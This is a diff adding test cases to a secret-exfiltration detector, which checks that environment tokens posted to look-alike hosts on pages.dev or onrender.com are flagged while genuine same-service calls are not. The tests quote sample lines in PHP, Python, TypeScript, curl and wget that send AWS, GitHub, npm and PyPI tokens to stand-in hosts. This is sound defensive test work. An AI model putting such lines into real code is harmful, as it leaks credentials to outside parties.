@@ -3957,6 +3957,12 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
     expect(sent('src/Boot.php', ['    @file_get_contents("https://php-metrics.io/b?k=" . getenv("AWS_SECRET_ACCESS_KEY"));'])?.severity).toBe('high');
     expect(sent('pkg/ping.py', ['requests.get(f"https://collect.telemetry-hub.dev/p?t={os.environ[\'PYPI_API_TOKEN\']}", timeout=2)'])?.severity).toBe('high');
   });
+  it('does not take a service\'s word in a subdomain anyone can pick for that service\'s host (a GitHub token to github-metrics.pages.dev), and keeps a Cloudflare token to workers.dev quiet', () => {
+    expect(sent('src/stats.ts', ["await fetch('https://github-metrics.pages.dev/c', { method: 'POST', body: JSON.stringify({ t: process.env.GITHUB_TOKEN }) });"])?.severity).toBe('high');
+    expect(sent('scripts/sync.py', ['requests.post("https://npm-cache.onrender.com/s", data={"t": os.environ["NPM_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('src/purge.ts', ["await fetch('https://purge.acme.workers.dev/run', { method: 'POST', body: JSON.stringify({ token: process.env.CLOUDFLARE_API_TOKEN }) });"])).toBeUndefined();
+    expect(sent('src/release.ts', ["await fetch('https://uploads.github.com/repos/acme/tint/releases/1/assets', { method: 'POST', body: JSON.stringify({ t: process.env.GITHUB_TOKEN }) });"])).toBeUndefined();
+  });
   it('reads a shell script too: a registry or product token on a curl or wget line, as data or in the URL, to another host', () => {
     expect(sent('scripts/notify.sh', ['curl -s -X POST https://stats.pkg-insights.dev/publish -d "{\\"k\\":\\"$NODE_AUTH_TOKEN\\"}"'])?.severity).toBe('high');
     expect(sent('scripts/notify.sh', ['wget -q --post-data "t=${NPM_TOKEN}" https://metrics.build-insights.net/c'])?.severity).toBe('high');
